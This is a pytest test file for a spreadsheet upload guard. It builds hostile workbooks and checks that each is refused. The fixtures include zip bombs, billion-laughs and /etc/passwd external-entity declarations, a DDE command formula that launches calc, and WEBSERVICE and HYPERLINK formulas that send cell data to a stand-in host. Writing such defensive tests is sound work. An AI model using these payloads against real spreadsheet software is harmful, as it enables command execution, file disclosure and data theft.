"""Hostile and broken files: each refused quickly, in little memory, with a sentence that says what to do."""

# ruff: noqa: E501 - a table of cases is read as a table

import io
import re
import resource
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from contextlib import suppress
from pathlib import Path

import openpyxl
import pytest

from vungmanh.sheets import guard, sheet_xml
from vungmanh.sheets.reader import read_workbook
from vungmanh.sheets.tests.books import AN, HEAD, book, data, names, table, tables
from vungmanh.sheets.tests.old_excel import old_excel
from vungmanh.sheets.unreadable import _SENTENCES, Unreadable

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
CELL = '<c r="A1" t="inlineStr"><is><t>Họ và tên</t></is></c>'


def sheet_of(inner, dimension="A1:B2"):
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><dimension ref="{dimension}"/><sheetData>{inner}</sheetData></worksheet>'


def rows_of(inner):
    return sheet_of(f'<row r="1">{inner}</row>')


def parts_of(sheet=None, **more):
    """The parts of the smallest workbook; keyword arguments replace or add parts (None takes one away)."""
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{LINKS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{LINKS}"><sheets><sheet name="DS" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}/relationships"><Relationship Id="r1" Type="{LINKS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet if sheet is not None else rows_of(CELL),
    }
    parts.update({name.replace("__", "/"): text for name, text in more.items()})
    return {name: text for name, text in parts.items() if text is not None}


def zipped(parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return file.getvalue()


def xlsx(sheet=None, **more):
    return zipped(parts_of(sheet, **more))


def with_part(name, text):
    return zipped({**parts_of(), name: text})


def formula(text):
    return xlsx(rows_of(f'<c r="C1"><f>{text}</f><v>1</v></c>'))


def lying_sizes():
    """A part that unpacks to a hundred times what the archive says of it."""
    honest = bytearray(with_part("xl/media/a.xml", b"x" * 30_000_000))
    at = honest.rfind(b"PK\x01\x02", 0, honest.rfind(b"xl/media/a.xml"))
    struct.pack_into("<I", honest, at + 24, 300_000)
    return bytes(honest)


def two_of_one_name():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, text in parts_of().items():
            archive.writestr(name, text)
        with pytest.warns(UserWarning, match="Duplicate"):
            archive.writestr("xl/worksheets/sheet1.xml", rows_of(""))
    return file.getvalue()


def encrypted_part():
    data = bytearray(xlsx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def long_text_many_times():
    """A text of 32,000 letters that 200,000 cells point at: 6 GB from 60 kB."""
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 200_001))
    texts = f'<sst xmlns="{MAIN}" count="1" uniqueCount="1"><si><t>{"x" * 32_000}</t></si></sst>'
    return xlsx(sheet_of(rows), **{"xl__sharedStrings.xml": texts})


def ole(*names, content=b"", circle=False):
    """An OLE2 file with streams of these names, all with the same content of 4096 bytes or more, or with none."""
    sector = 512
    end = 0xFFFFFFFE
    stream = content.ljust(max(4096, -(-len(content) // sector) * sector), b"\0") if content else b""
    folders = -(-(1 + len(names)) // 4)
    first = 1 + folders
    entries = b""
    for name, kind in [("Root Entry", 5), *((name, 2) for name in names)]:
        text = name.encode("utf-16-le")
        start, size = (first, len(stream)) if kind == 2 and stream else (end, 0)
        entries += struct.pack("<64sHBB", text, len(text) + 2, kind, 1) + struct.pack("<3I", *[0xFFFFFFFF] * 3)
        entries += b"\0" * 36 + struct.pack("<II", start, size) + b"\0" * 4
    length = len(stream) // sector
    fat = [0xFFFFFFFD, *range(2, 1 + folders), 1 if circle else end, *range(first + 1, first + length), end]
    blocks = -(-len(fat) // 128)
    assert blocks == 1 or not content or length < 100_000
    extra = list(range(first + length, first + length + blocks - 1))
    fat += [0xFFFFFFFD] * len(extra)
    table = struct.pack(f"<{len(fat)}I", *fat).ljust(blocks * sector, b"\xff")
    head = guard.ole.MAGIC + b"\0" * 16 + struct.pack("<5H", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 10
    head += struct.pack("<8I", blocks, 1, 0, 4096, end, 0, end, 0) + struct.pack(f"<{blocks}I", 0, *extra)
    folder = entries.ljust(folders * sector, b"\0")
    return head.ljust(512, b"\xff") + table[:sector] + folder + stream + table[sector:]


def record(kind, data):
    return struct.pack("<HH", kind, len(data)) + data


def old_book(cells, texts=(), globals_=b""):
    """An .xls with one sheet of these records."""
    start = record(0x0809, b"\0\6\5\0" + b"\0" * 12)
    shared = b""
    if texts:
        body = b"".join(struct.pack("<HB", len(text), 0) + text.encode() for text in texts)
        pieces = [struct.pack("<II", len(texts), len(texts)) + body[:8000]]
        pieces += [b"\0" + body[at : at + 8000] for at in range(8000, len(body), 8000)]
        shared = record(0x00FC, pieces[0]) + b"".join(record(0x003C, piece) for piece in pieces[1:])
    rest = globals_ + shared + record(0x000A, b"")
    place = len(start) + 4 + 10 + len(rest)
    sheet = record(0x0085, struct.pack("<IBBBB", place, 0, 0, 2, 0) + b"DS")
    return ole("Workbook", content=start + sheet + rest + start + cells + record(0x000A, b""))


def number(row, column):
    return record(0x0203, struct.pack("<3Hd", row, column, 0, 1.0))


def shared(row, column, text):
    return record(0x00FD, struct.pack("<3HI", row, column, 0, text))


FAR_ROWS = "".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in (1, 1_048_576))
WIDE = MAIN.encode()
HOSTILE = {
    "one cell at XFD1048576": (lambda: xlsx(sheet_of('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')), "too-many-rows"),
    "two cells far apart": (lambda: xlsx(sheet_of(FAR_ROWS)), "too-many-rows"),
    "a cell far to the right": (lambda: xlsx(rows_of('<c r="XFD1"><v>1</v></c>')), "too-many-columns"),
    "corners within both limits": (lambda: xlsx(sheet_of('<row r="1"><c r="KN1"><v>1</v></c></row><row r="300000"><c r="A300000"><v>1</v></c></row>')), "too-many-cells"),
    "a cell whose row says otherwise": (lambda: xlsx(rows_of('<c r="A1048576"><v>1</v></c>')), "too-many-rows"),
    "single quotes and spaces": (lambda: xlsx(rows_of("<c  s = '1'  r = 'XFD1048576'><v>1</v></c>")), "too-many-rows"),
    "a prefix of the names": (lambda: xlsx(rows_of('<x:c xmlns:x="u" r="XFD1048576"><x:v>1</x:v></x:c>')), "too-many-rows"),
    "cells without names in a far row": (lambda: xlsx(sheet_of('<row r="1048576"><c><v>1</v></c></row>')), "too-many-rows"),
    "many cells without names": (lambda: xlsx(sheet_of("<row>" + "<c><v>1</v></c>" * 16_000 + "</row>")), "too-many-columns"),
    "a sheet under another name": (
        lambda: zipped({**parts_of(), "xl/_rels/workbook.xml.rels": parts_of()["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", "media/a.png"), "xl/media/a.png": sheet_of(FAR_ROWS)}), "damaged"),
    "a bomb in the sheet": (lambda: xlsx(rows_of(CELL + " " * 60_000_000)), "unpacks-too-big"),
    "a bomb beside the sheet": (lambda: with_part("xl/media/a.bin", b"\0" * 100_000_000), "unpacks-too-big"),
    "sizes that lie": (lying_sizes, "unpacks-too-big"),
    "one long text many times": (long_text_many_times, "unpacks-too-big"),
    "thousands of parts": (lambda: zipped({**parts_of(), **{f"xl/media/{n}": "" for n in range(1_100)}}), "too-many-parts"),
    "a million merged cells": (lambda: xlsx(sheet_of(f"<row r='1'>{CELL}</row>").replace("</worksheet>", "<mergeCells>" + '<mergeCell ref="A1:B1"/>' * 61_000 + "</mergeCells></worksheet>")), "too-many-cells"),
    "two parts of one name": (two_of_one_name, "damaged"),
    "an encrypted part": (encrypted_part, "password"),
    "macros": (lambda: with_part("xl/vbaProject.bin", b"\0"), "macros"),
    "macros in capitals": (lambda: with_part("XL/VBAPROJECT.BIN", b"\0"), "macros"),
    "a macro sheet": (lambda: with_part("xl/macrosheets/sheet1.xml", "<a/>"), "macros"),
    "a link to another file": (lambda: with_part("xl/externalLinks/externalLink1.xml", "<a/>"), "external-links"),
    "an embedded object": (lambda: with_part("xl/embeddings/oleObject1.bin", b"\0"), "external-links"),
    "a name that points outside": (lambda: zipped({**parts_of(), "xl/workbook.xml": parts_of()["xl/workbook.xml"].replace("<sheets>", "<definedNames><definedName name='a'>[1]Sheet1!A1</definedName></definedNames><sheets>")}), "external-links"),
    "a binary workbook": (lambda: with_part("xl/workbook.bin", b"\0"), "binary-workbook"),
    "HYPERLINK": (lambda: formula('HYPERLINK(&quot;http://a.example/&quot;&amp;A1)'), "dangerous-formula"),
    "WEBSERVICE": (lambda: formula('_xlfn.WEBSERVICE(&quot;http://a.example&quot;)'), "dangerous-formula"),
    "DDE": (lambda: formula("cmd|'/c calc'!A0"), "dangerous-formula"),
    "a formula on another file": (lambda: formula("[1]Sheet1!A1+1"), "dangerous-formula"),
    "a formula on another file by path": (lambda: formula("SUM('C:\\[luong.xlsx]T1'!A1)"), "dangerous-formula"),
    "a formula where none is written": (lambda: xlsx(rows_of("<f>WEBSERVICE(1)</f>")), "damaged"),
    "billion laughs": (lambda: xlsx('<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]>' + rows_of(CELL)), "entities"),
    "an outer entity": (lambda: xlsx('<!DOCTYPE a SYSTEM "file:///etc/passwd">' + rows_of(CELL)), "entities"),
    "a declaration far behind": (lambda: xlsx(rows_of(CELL) + " " * 1_000_000 + "<!DOCTYPE a>"), "entities"),
    "a sheet in UTF-16": (lambda: xlsx(rows_of(CELL).encode("utf-16")), "damaged"),
    "a sheet in another encoding": (lambda: xlsx(rows_of(CELL).replace('"UTF-8"', '"UTF-7"')), "damaged"),
    "no workbook inside": (lambda: zipped({"a.txt": "x"}), "archive"),
    "an archive of workbooks": (lambda: zipped({"a.xlsx": xlsx()}), "archive"),
    "a Word document": (lambda: zipped({"[Content_Types].xml": "<a/>", "word/document.xml": "<a/>"}), "word"),
    "an OpenDocument": (lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}), "open-document"),
    "a sheet that is not there": (lambda: xlsx(**{"xl__worksheets__sheet1.xml": None}), "damaged"),
    "a workbook without sheets": (lambda: zipped({**parts_of(), "xl/workbook.xml": f'<workbook xmlns="{MAIN}"><sheets/></workbook>'}), "no-sheets"),
    "a broken workbook.xml": (lambda: zipped({**parts_of(), "xl/workbook.xml": "<workbook><sheets>"}), "damaged"),
    "a PDF": (lambda: b"%PDF-1.7\n" + b"\0" * 100, "pdf"),
    "a web page as .xls": (lambda: b"<html><table><tr><td>1</td></tr></table></html>", "html"),
    "a web page with a mark": (lambda: b"\xef\xbb\xbf \n<!DOCTYPE html><html></html>", "html"),
    "an XML workbook of 2003": (lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>', "xml"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 50, "picture"),
    "a gzip": (lambda: b"\x1f\x8b" + zlib.compress(b"x" * 99), "archive"),
    "a program": (lambda: b"\x7fELF" + b"\0" * 200, "binary"),
    "nothing": (lambda: b"", "empty"),
    "a password": (lambda: ole("EncryptionInfo", "EncryptedPackage"), "password"),
    "an old Word document": (lambda: ole("WordDocument"), "word"),
    "an old workbook with macros": (lambda: ole("Workbook", "_VBA_PROJECT_CUR"), "macros"),
    "some other old file": (lambda: ole("Contents"), "binary"),
    "half an old file": (lambda: old_excel()[:1500], "damaged"),
    "an old file of nothing": (lambda: old_excel()[:512] + b"\0" * 5000, "damaged"),
    "an old file in a circle": (lambda: ole("Workbook", content=b"x", circle=True), "damaged"),
    "an old workbook with a password": (lambda: old_book(b"", globals_=record(0x002F, b"\0" * 6)), "password"),
    "an old workbook with links": (lambda: old_book(b"", globals_=record(0x01AE, b"\1\0\7\0\0luong.x")), "external-links"),
    "an old workbook with far corners": (lambda: old_book(number(0, 0) + number(65_535, 255)), "too-many-cells"),
    "an old workbook with one long text many times": (
        lambda: old_book(b"".join(shared(row, 0, 1) for row in range(9_000)), ["x", "y" * 30_000]), "unpacks-too-big"),
    "larger than allowed": (lambda: b"a,b\n" * (8 * 2**20), "too-big"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_refused_quickly_with_a_sentence(tmp_path, what):
    content, code = HOSTILE[what]
    path = tmp_path / "Danh sách.xlsx"
    path.write_bytes(content())
    begun = time.process_time()
    with pytest.raises(Unreadable) as refusal:
        guard.check(path)
    assert time.process_time() - begun < 4
    assert refusal.value.code == code
    assert "Danh sách.xlsx" in str(refusal.value)
    assert "%(" not in str(refusal.value)


def test_every_sentence_can_be_said():
    known = {"file", "count", "limit", "sheet", "row", "column", "cells", "cell", "what"}
    for code, sentence in _SENTENCES.items():
        assert set(re.findall(r"%\((\w+)\)s", sentence())) <= known, code


@pytest.mark.parametrize(
    "what",
    [
        "a bomb in the sheet",
        "one long text many times",
        "one cell at XFD1048576",
        "sizes that lie",
        "corners within both limits",
    ],
)
def test_refused_in_little_memory(tmp_path, what):
    path = tmp_path / "a.xlsx"
    path.write_bytes(HOSTILE[what][0]())
    program = (
        "import sys\nfrom vungmanh.sheets import guard\nfrom vungmanh.sheets.unreadable import Unreadable\n"
        "try:\n    guard.check(sys.argv[1])\nexcept Unreadable as refusal:\n"
        "    print(refusal.code)\n"
        # Not ru_maxrss, which counts the parent too.
        "print(next(line.split()[1] for line in open('/proc/self/status') if line.startswith('VmHWM')))\n"
    )
    limit = 700 * 2**20
    said = subprocess.run(
        [sys.executable, "-c", program, str(path)],
        capture_output=True,
        text=True,
        check=True,
        cwd=Path(__file__).parents[3],
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (limit, limit)),
    ).stdout.split()
    assert said[0] == HOSTILE[what][1]
    assert int(said[1]) < 200 * 1024


@pytest.mark.parametrize("share", [0.02, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99])
@pytest.mark.parametrize("kind", ["xlsx", "xls"])
def test_cut_off_files_are_refused(tmp_path, share, kind):
    whole = book(tmp_path, [HEAD, AN] * 200).read_bytes() if kind == "xlsx" else old_excel()
    path = tmp_path / f"b.{kind}"
    path.write_bytes(whole[: int(len(whole) * share)])
    with pytest.raises(Unreadable):
        list(read_workbook(path))


def test_a_file_that_is_not_there_a_folder_and_a_locked_one(tmp_path, monkeypatch):
    for path, code in ((tmp_path / "no.xlsx", "missing"), (tmp_path, "not-a-file")):
        with pytest.raises(Unreadable) as refusal:
            guard.check(path)
        assert refusal.value.code == code

    def locked(*_args, **_kwargs):
        raise PermissionError

    (tmp_path / "a.csv").write_text("a,b")
    monkeypatch.setattr(Path, "open", locked)
    with pytest.raises(Unreadable) as refusal:
        guard.check(tmp_path / "a.csv")
    assert refusal.value.code == "no-permission"


def test_a_billion_declared_rows_cost_nothing(tmp_path):
    path = tmp_path / "a.xlsx"
    rows = f'<row r="1">{CELL}<c r="B1" t="inlineStr"><is><t>SĐT</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>Nguyễn Văn An</t></is></c><c r="B2"><v>912345678</v></c></row>'
    path.write_bytes(xlsx(sheet_of(rows, "A1:XFD1000000000")))
    assert names(table(path)) == ["Nguyễn Văn An"]


def test_formats_without_content_are_no_reach(tmp_path):
    far = '<row r="1048576" s="1"><c r="A1048576" s="1"/><c r="XFD1048576" s="1"/></row>'
    wide = '<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c><c r="IV2" s="1"/></row><row r="290000"><c r="A290000" s="1"/></row>'
    path = tmp_path / "a.xlsx"
    path.write_bytes(xlsx(sheet_of(f'<row r="1">{CELL}</row>{wide}{far}')))
    (sheet,) = read_workbook(path)
    assert len(sheet.rows) == 2


def test_shared_and_inline_texts_and_links_of_addresses_are_honest(tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.worksheets[0]
    sheet.append(["Họ và tên", "Email"])
    sheet.append(["Nguyễn Văn An", "an@example.vn"])
    sheet["B2"].hyperlink = "mailto:an@example.vn"
    workbook.save(tmp_path / "a.xlsx")
    assert data(table(tmp_path / "a.xlsx")) == [{"name": "Nguyễn Văn An", "email": "an@example.vn"}]


@pytest.mark.parametrize("name", ["a.xls", "a.csv", "a", "a.XLSX", "a.txt"])
def test_the_content_decides_and_not_the_ending(tmp_path, name):
    path = tmp_path / name
    path.write_bytes(book(tmp_path, [HEAD, AN], file="b.xlsx").read_bytes())
    assert names(table(path)) == ["Nguyễn Văn An"]
    path.write_text("Họ và tên,SĐT\nNguyễn Văn An,0912345678\n", encoding="utf-8")
    assert names(table(path)) == ["Nguyễn Văn An"]
    path.write_bytes(old_excel())
    assert names(tables(path)[0]) == ["Nguyễn Văn Đạt", "Trần Thị Hạnh"]


def test_a_text_that_goes_on_in_the_next_record_is_counted_once(tmp_path):
    path = tmp_path / "a.xls"
    path.write_bytes(old_book(shared(0, 0, 1) + shared(1, 1, 2) + number(2, 0), ["x" * 7_980, "y" * 30_000, "z"]))
    assert guard.check(path).sheets["DS"].cells == 6


def test_an_old_workbook_is_read_with_its_row_numbers(tmp_path):
    path = tmp_path / "a.xls"
    path.write_bytes(old_excel())
    first, hidden = read_workbook(path)
    assert (first.name, hidden.name, hidden.hidden) == ("Danh sách", "Ẩn", True)
    assert first.formulas.keys() == {(5, 1), (6, 1)}
    found = table(path)
    assert [row.number for row in found.data] == [5, 6]
    assert data(found)[0]["identity_number"] == "001088000123"


FORMULAS = [
    ("E3", '=D3&"x"', "formula-in-list"),
    ("B3", "=PROPER(G3)", "formula-in-list"),
    ("A3", "=ROW()-2", None),
    ("H3", "=1+2", None),
    ("E4", "=COUNTA(E3:E3)", None),
    ("A1", '="DANH SÁCH "&YEAR(TODAY())', None),
]


@pytest.mark.parametrize(("cell", "text", "code"), FORMULAS)
def test_formulas_are_refused_in_the_fields_of_entries_only(tmp_path, cell, text, code):
    path = book(tmp_path, [["DANH SÁCH"], HEAD, AN, [None, "Tổng cộng", None, None, 1]])
    workbook = openpyxl.load_workbook(path)
    workbook.worksheets[0][cell] = text
    workbook.save(path)
    if code is None:
        assert len(table(path).data) == 1
        return
    with pytest.raises(Unreadable) as refusal:
        table(path)
    assert refusal.value.code == code
    assert cell in str(refusal.value)


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("SUM(A1:A9)", ""),
        ('A1&"|"&B1', ""),
        ('IF(A1="[1]x","HYPERLINK(",1)', ""),
        ("Table1[[#This Row],[Họ tên]]", ""),
        ("Table1[STT]*2", ""),
        ("hyperlink(A1)", "hyperlink"),
        ("SUM([2]Sheet1!A1)", "[2]"),
        ("'[luong.xls]T1'!A1", "[luong.xls]"),
        ("cmd|'/c calc'!A0", "|'/c calc'!"),
    ],
)
def test_what_reaches_out(text, what):
    assert sheet_xml.reaches_out(text) == what


def test_letters_of_columns():
    for number in (1, 26, 27, 52, 53, 702, 703, 16_384):
        assert sheet_xml.column_number(sheet_xml.column_letters(number)) == number
    assert [sheet_xml.column_letters(n) for n in (1, 28, 16_384)] == ["A", "AB", "XFD"]


@pytest.mark.parametrize(
    "what", ["macros", "a link to another file", "thousands of parts", "a password", "an old workbook with macros"]
)
def test_what_names_alone_tell_is_told_at_a_glance(tmp_path, what):
    path = tmp_path / "a.xlsx"
    path.write_bytes(HOSTILE[what][0]())
    with pytest.raises(Unreadable) as refusal:
        guard.glance(path)
    assert refusal.value.code == HOSTILE[what][1]


@pytest.mark.parametrize("what", ["cells never ended", "errors never closed", "half a million parts of nothing"])
def test_a_glance_takes_no_time_whatever_the_file_holds(tmp_path, what):
    """Looked into, each of the first two would keep the guard for hours."""
    content = {
        "cells never ended": lambda: xlsx(sheet_of("<row r='1'>" + "<c " * 300_000 + "</row>")),
        "errors never closed": lambda: xlsx(sheet_of("<row r='1'>" + '<c r="A1" t="e">' * 60_000 + "</row>")),
        "half a million parts of nothing": lambda: xlsx() + b"PK\1\2" * 500_000,
    }[what]()
    path = tmp_path / "a.xlsx"
    path.write_bytes(content)
    begun = time.process_time()
    with suppress(Unreadable):
        guard.glance(path)
    assert time.process_time() - begun < 3
